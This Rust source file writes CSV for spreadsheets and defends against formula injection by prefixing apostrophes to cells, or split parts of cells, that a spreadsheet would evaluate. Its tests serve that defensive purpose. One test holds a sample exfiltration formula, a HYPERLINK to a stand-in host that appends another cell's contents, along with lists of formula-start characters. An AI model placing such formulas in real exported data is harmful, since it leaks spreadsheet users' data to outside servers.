//! Writes comma-separated values (RFC 4180) for spreadsheets.

/// Returns rows as a file of type `text/csv; charset=utf-8; header=present`.
///
/// It begins with a byte order mark, which spreadsheets need to read Arabic. The texts come from a feed, and a
/// formula in a spreadsheet may send other cells to a server. So an apostrophe is before each text that a
/// spreadsheet would evaluate, also inside a cell, after a character at which some spreadsheets split a row.
///
/// ```
/// use masar_download::csv;
/// let rows = [["تاريخ", "Title"], ["2023", "=1+1, \"2\""]].map(|row| row.map(String::from).to_vec());
/// assert_eq!(
///     csv::write(&rows),
///     "\u{feff}تاريخ,Title\r\n2023,\"'=1+1, \"\"2\"\"\"\r\n",
/// );
/// ```
#[must_use]
pub fn write(rows: &[Vec<String>]) -> String {
    let mut out = String::from("\u{feff}");
    for row in rows {
        for (at, value) in row.iter().enumerate() {
            if at > 0 {
                out.push(',');
            }
            // An empty line would not be a row.
            cell(&mut out, value, row.len() == 1 && value.is_empty());
        }
        out.push_str("\r\n");
    }
    out
}

fn cell(out: &mut String, value: &str, quoted: bool) {
    let quoted = quoted
        || value
            .bytes()
            .any(|byte| matches!(byte, b',' | b'"') || ends_part(byte));
    if quoted {
        out.push('"');
    }
    for (at, letter) in value.char_indices() {
        if begins_part(value, at) && is_formula(&value[at..], at > 0) {
            out.push('\'');
        }
        if letter == '"' {
            out.push('"');
        }
        out.push(letter);
    }
    if quoted {
        out.push('"');
    }
}

/// Returns a cell for [`write()`] that [`without_apostrophes`] reads as this text: where the text itself has
/// apostrophes before a formula, it gets one more.
#[must_use]
pub fn with_apostrophes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (at, letter) in text.char_indices() {
        if letter == '\'' && protects_formula(text, at) {
            out.push('\'');
        }
        out.push(letter);
    }
    out
}

/// Returns a cell without the apostrophes that keep a spreadsheet from evaluating it.
#[must_use]
pub fn without_apostrophes(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len());
    for (at, letter) in cell.char_indices() {
        if !(letter == '\'' && protects_formula(cell, at)) {
            out.push(letter);
        }
    }
    out
}

/// Whether a part of a cell begins with the apostrophe at an offset, and is a formula after its apostrophes.
fn protects_formula(cell: &str, at: usize) -> bool {
    begins_part(cell, at) && is_formula(cell[at..].trim_start_matches('\''), at > 0)
}

/// Whether a part of a cell begins at an offset: at the start, or after a semicolon, a tab or a line end. A spreadsheet
/// that splits rows there begins a cell of its own, whatever the quotes are.
fn begins_part(cell: &str, at: usize) -> bool {
    at == 0 || ends_part(cell.as_bytes()[at - 1])
}

fn ends_part(byte: u8) -> bool {
    matches!(byte, b';' | b'\t' | b'\r' | b'\n')
}

/// Whether a spreadsheet may evaluate the first part of a text as a formula: it has a sign of formulas, also of full
/// width, after any blanks, quotes and invisible characters.
///
/// At the start of a cell, a number with a sign counts, because a spreadsheet would make -43 of the year `-0043`. Inside a
/// cell it does not: coordinates are `34.03;-5`.
fn is_formula(text: &str, is_inside: bool) -> bool {
    let part = text.trim_start_matches(|letter| match letter {
        '\t' | '\r' | '\n' => false,
        '"'
        | '\u{7f}'..='\u{a0}'
        | '\u{ad}'
        | '\u{2000}'..='\u{206f}'
        | '\u{3000}'
        | '\u{feff}' => true,
        _ => letter <= ' ',
    });
    match part.chars().next() {
        Some('+' | '-') => !is_inside || !is_number(&part[1..]),
        Some('=' | '@' | '＝' | '＋' | '－' | '＠') => true,
        _ => false,
    }
}

/// Whether the first part of a text is a number without a sign.
fn is_number(text: &str) -> bool {
    let mut part = text.bytes().take_while(|byte| !ends_part(*byte));
    part.next().is_some_and(|byte| byte.is_ascii_digit())
        && part.all(|byte| byte.is_ascii_digit() || byte == b'.')
}

#[cfg(test)]
mod tests {
    use super::{with_apostrophes, without_apostrophes, write};
    use proptest::prelude::*;

    fn row(cells: &[&str]) -> Vec<String> {
        cells.iter().map(|cell| (*cell).to_owned()).collect()
    }

    fn read(text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .map(|record| {
                let record = record.expect("a row that a reader of CSV reads");
                record.iter().map(str::to_owned).collect()
            })
            .collect()
    }

    #[test]
    fn only_cells_that_need_quotes_are_quoted() {
        let rows = [row(&["a b", "a;b", "a,b", "a\"b", "a\nb", ""])];
        assert_eq!(
            write(&rows),
            "\u{feff}a b,\"a;b\",\"a,b\",\"a\"\"b\",\"a\nb\",\r\n"
        );
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_compute_starts_with_an_apostrophe() {
        for start in [
            "=",
            "+",
            "-",
            "@",
            "＝",
            "＋",
            "－",
            "＠",
            " =",
            "\u{a0}@",
            "\"=",
            "\u{200b}=",
            "\u{1}-",
        ] {
            let cell = format!("{start}HYPERLINK(A1)");
            assert_eq!(read(&write(&[row(&[&cell])])), [[format!("'{cell}")]]);
        }
    }

    #[test]
    fn a_sign_further_in_is_left_alone() {
        let rows = [row(&[
            "2022-09-14",
            "a=b",
            "'=1",
            "34.03;-5",
            "a;\n\nb - c",
            "a, -b",
        ])];
        assert_eq!(read(&write(&rows)), rows);
    }

    /// Splits a file at each separator and line end, whatever the quotes are, as a lenient reader of another separator
    /// does where a quote does not begin a cell.
    fn split(text: &str, separator: char) -> Vec<&str> {
        text.split(['\r', '\n', separator]).collect()
    }

    #[test]
    fn a_reader_of_another_separator_gets_no_formula() {
        let attack = "=HYPERLINK(\"https://x.test/\"&A1)";
        for before in [
            "a;",
            "a\t",
            "a\n",
            "a\r\n",
            "a; ",
            "a;\"",
            "a\t\u{a0}\"",
            ";;",
            "a;\n",
        ] {
            let cell = [before, attack].concat();
            let file = write(&[row(&["2023", &cell, &cell]), row(&[&cell])]);
            for separator in [';', '\t'] {
                for cell in split(&file, separator) {
                    let cell = cell.trim_start_matches([' ', '\u{a0}', '"']);
                    assert!(!cell.starts_with('='), "{before:?}: {file:?}");
                }
            }
        }
    }

    #[test]
    fn a_row_of_one_empty_cell_is_a_row() {
        let rows = [row(&["a"]), row(&[""]), row(&["b"])];
        assert_eq!(read(&write(&rows)), rows);
    }

    /// What a reader of CSV gets of a cell.
    fn written(cell: &str) -> String {
        let mut rows = read(&write(&[row(&[cell])]));
        rows.remove(0).remove(0)
    }

    proptest! {
        #[test]
        fn any_cell_is_read_back_and_only_apostrophes_are_added(
            rows in prop::collection::vec(prop::collection::vec(r#"([,;\t"\r\n=+@'-]|\PC|\PC){0,9}"#, 1..5), 1..5),
        ) {
            let read = read(&write(&rows));
            prop_assert_eq!(read.len(), rows.len());
            for (cell, text) in read.iter().flatten().zip(rows.iter().flatten()) {
                prop_assert_eq!(cell.replace('\'', ""), text.replace('\'', ""));
                prop_assert_eq!(&written(text), cell);
            }
        }

        #[test]
        fn a_reader_that_removes_apostrophes_gets_the_text(text in r#"([;\t"\r\n=+@' 5-]|\PC){0,12}"#) {
            let cell = written(&with_apostrophes(&text));
            prop_assert_eq!(without_apostrophes(&cell), text);
        }
    }
}
